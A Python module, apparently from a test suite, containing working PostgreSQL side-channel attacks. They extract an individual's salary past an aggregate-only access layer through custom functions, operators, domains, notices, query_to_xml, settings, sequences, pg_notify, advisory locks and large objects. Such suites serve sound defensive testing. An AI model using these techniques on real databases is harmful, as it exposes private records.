"""Running code: what is called with a salary carries it out."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress

import psycopg

from attacks.attack import Family
from attacks.office import DOORS, Door, Guess, Office

MADE = """
    CREATE SEQUENCE extra.counter;
    CREATE FUNCTION extra.tell(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN $1; END $$;
    CREATE FUNCTION extra.tells(int) RETURNS boolean LANGUAGE sql AS $$ SELECT extra.tell($1) IS NOT NULL $$;
    CREATE FUNCTION extra.more(int, int) RETURNS boolean LANGUAGE sql AS $$ SELECT extra.tell($1) IS NOT NULL $$;
    CREATE OPERATOR extra.> (FUNCTION = extra.more, LEFTARG = int, RIGHTARG = int);
    CREATE DOMAIN extra.told AS int CHECK (extra.tells(VALUE));
    GRANT ALL ON SEQUENCE extra.counter TO PUBLIC;
"""


@contextmanager
def heard(door: Door) -> Iterator[list[int]]:
    """Numbers that the session is told in notices."""
    numbers: list[int] = []

    def hear(notice: psycopg.errors.Diagnostic) -> None:
        with suppress(ValueError):
            numbers.append(int(notice.message_primary or ""))

    door.session.add_notice_handler(hear)
    try:
        yield numbers
    finally:
        door.session.remove_notice_handler(hear)


def by_notice(aggregate: str, where: str = "") -> Guess:
    def guess(door: Door, who: str) -> float:
        door.share(1)
        with heard(door) as numbers:
            door.session.execute("SET search_path = extra, pg_catalog")
            try:
                door.ask(aggregate, who + where, repeats=1)
            finally:
                door.session.execute("RESET search_path")
        return float(numbers[0]) if numbers else 0.0

    return guess


def left_behind(aggregate: str, found: Callable[[Door], float], before: str = "SELECT 1") -> Guess:
    """The call leaves the salary where the attacker can look."""

    def guess(door: Door, who: str) -> float:
        door.share(1)
        door.session.execute(before.encode())
        door.ask(aggregate, who, repeats=1)
        return found(door)

    return guess


def read(query: str) -> Callable[[Door], float]:
    def found(door: Door) -> float:
        row = door.session.execute(query.encode()).fetchone()
        return 0.0 if row is None or row[0] in (None, "") else float(row[0])

    return found


def notified(door: Door) -> float:
    return float(next((notice.payload for notice in door.session.notifies(timeout=0.2)), 0))


def from_a_string(door: Door, who: str) -> float:
    door.share(1)
    inner = f"SELECT p.salary FROM {door.table} p WHERE {who}"
    value = f"(xpath('//salary/text()', query_to_xml($i${inner}$i$, true, true, '')))[1]::text::int"
    return door.ask(f"max({value})", "p.dept = 'dept 0'", repeats=64) or 0.0


def large_object(door: Door, who: str) -> float:
    """An object of that number is made, and every role sees the numbers of all objects."""

    def numbers() -> set[int]:
        return {oid for (oid,) in door.session.execute("SELECT oid::int8 FROM pg_largeobject_metadata").fetchall()}

    door.share(1)
    before = numbers()
    door.ask("sum(lo_create(1000000 + p.salary)::int8)", who, repeats=1)
    return float(max(numbers() - before, default=0) - 1000000)


def attacks(office: Office) -> Family:
    office.session("mallory").execute(MADE.encode())
    one = office.attack
    return Family(
        "Running code",
        "The salary of one person, by what is called with it.",
        DOORS,
        (
            one("own functions", by_notice("sum(extra.tell(p.salary))")),
            one("own operators, `public.=` before pg_catalog", by_notice("count(*)", " AND p.salary > 0")),
            one("own types, domains named like built-in ones", by_notice("sum(p.salary::extra.told)")),
            one("query_to_xml and all that runs SQL from a string", from_a_string),
            one("set_config", left_behind("max(set_config('lab.told', p.salary::text, false)::int)",
                read("SELECT current_setting('lab.told', true)"), "SET lab.told = ''")),
            one("nextval", left_behind("sum(setval('extra.counter', p.salary))",
                read("SELECT last_value FROM extra.counter"), "SELECT setval('extra.counter', 1)")),
            one("pg_notify", left_behind("count(pg_notify('told', p.salary::text))", notified, "LISTEN told")),
            one("advisory locks", left_behind("count(pg_advisory_lock(p.salary))",
                read("SELECT objid FROM pg_locks WHERE locktype = 'advisory'"), "SELECT pg_advisory_unlock_all()")),
            one("large objects", large_object),
        ),
    )  # fmt: skip
